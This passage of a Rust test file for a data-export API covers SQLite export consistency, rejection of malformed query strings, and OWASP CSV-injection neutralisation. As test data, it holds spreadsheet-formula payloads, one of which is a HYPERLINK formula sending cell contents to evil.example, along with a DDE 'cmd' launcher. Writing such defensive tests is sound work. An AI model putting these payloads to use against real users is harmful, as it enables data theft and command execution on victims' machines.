            // SQLite: the same rows in every table; the temporary file is gone.
            let (code, head, body) = get(addr, &format!("/api/v1/export?format=sqlite&{q}"));
            assert_eq!(code, 200);
            assert!(
                head.contains("content-type: application/vnd.sqlite3"),
                "{head}"
            );
            std::fs::write(&snap_api2, body).unwrap();
            let leftovers: Vec<_> = std::fs::read_dir(&src2)
                .unwrap()
                .filter_map(Result::ok)
                .filter(|e| e.file_name().to_string_lossy().starts_with("export-"))
                .collect();
            assert!(leftovers.is_empty(), "{leftovers:?}");
        })
        .await
        .unwrap();
        let dump = |p: &Path| -> Vec<String> {
            let c = rusqlite::Connection::open(p).unwrap();
            let mut out = Vec::new();
            for (table, _, _) in allmende_node::sql::VIEWS {
                let mut stmt = c
                    .prepare(&format!("SELECT * FROM {table} ORDER BY 1, 2, 3"))
                    .unwrap();
                let n = stmt.column_count();
                let rows = stmt
                    .query_map([], |r| {
                        (0..n)
                            .map(|i| {
                                r.get::<_, rusqlite::types::Value>(i)
                                    .map(|v| format!("{v:?}"))
                            })
                            .collect::<Result<Vec<_>, _>>()
                    })
                    .unwrap();
                for r in rows {
                    out.push(format!("{table}: {}", r.unwrap().join(" ")));
                }
            }
            out
        };
        assert_eq!(dump(&snap_api), dump(&snap));
        assert!(!dump(&snap).is_empty());

        // Hostile input: 400 with the JSON error and a clear message.
        tokio::task::spawn_blocking(move || {
            let long = format!("/api/v1/export?format=jsonl&q={}", "a".repeat(5000));
            let garbage = "/api/v1/export?format=jsonl&%ff%fe=%00&&==&task";
            for (path, says) in [
                ("/api/v1/export", "format is required"),
                (
                    "/api/v1/export?format=xlsx",
                    "not one of jsonl, jsonld, csv, sqlite",
                ),
                ("/api/v1/export?format=csv", "add table="),
                (
                    "/api/v1/export?format=csv&table=secrets",
                    "no table \\\"secrets\\\"",
                ),
                (
                    "/api/v1/export?format=jsonl&table=products",
                    "table is only for format=csv",
                ),
                (
                    "/api/v1/export?format=jsonl&format=csv",
                    "format given twice",
                ),
                ("/api/v1/export?format=jsonl&land=99", "land"),
                ("/api/v1/export?format=jsonl&org=xyz", "org"),
                (
                    "/api/v1/export?format=jsonl&verified=yes",
                    "verified must be true or false",
                ),
                ("/api/v1/export?format=jsonl&kind=rakete", "rakete"),
                (
                    "/api/v1/export?format=jsonl&colour=red",
                    "unknown parameter",
                ),
                (long.as_str(), "longer than"),
                (garbage, "unknown parameter"),
            ] {
                let (code, head, body) = get(addr, path);
                let body = String::from_utf8_lossy(&body);
                assert_eq!(code, 400, "{path}: {body}");
                assert!(head.contains("application/json"), "{path}: {head}");
                assert!(
                    body.contains("\"bad_request\"") && body.contains(says),
                    "{path}: {body}"
                );
            }
        })
        .await
        .unwrap();
        node.shutdown().await;
    }
}

/// OWASP "CSV injection": a product named like a spreadsheet formula must not run as one when
/// a researcher opens the CSV export in Excel or LibreOffice.
#[test]
fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised() {
    let tmp = tempfile::tempdir().unwrap();
    let src = tmp.path().join("src");
    ok(
        &src,
        &[
            "init",
            "--name",
            "Stadt Formel",
            "--kind",
            "kommune",
            "--ags",
            "05315000",
        ],
    );
    let hostile = [
        "=HYPERLINK(\"https://evil.example/?\"&B2,\"klick\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
    ];
    for name in hostile {
        ok(
            &src,
            &[
                "product",
                "add",
                &format!("--name={name}"),
                "--vendor==1+2",
                "--kind",
                "software",
                "--new",
            ],
        );
    }
    let dir = tmp.path().join("csv");
    ok(
        &src,
        &["export", "--format", "csv", "--out", dir.to_str().unwrap()],
    );
    let products = std::fs::read_to_string(dir.join("products.csv")).unwrap();
    let mut seen = 0;
    for line in products.split("\r\n").skip(1).filter(|l| !l.is_empty()) {
        // id, name, vendor, ...: no cell may start with a formula character.
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell starts like a formula: {cell:?} in {line:?}"
            );
        }
        seen += 1;
    }
    assert_eq!(seen, hostile.len(), "{products}");
    // The text itself is kept, behind the apostrophe a spreadsheet hides.
    assert!(products.contains("'=HYPERLINK("), "{products}");
    assert!(products.contains(",'=1+2,"), "{products}");
}
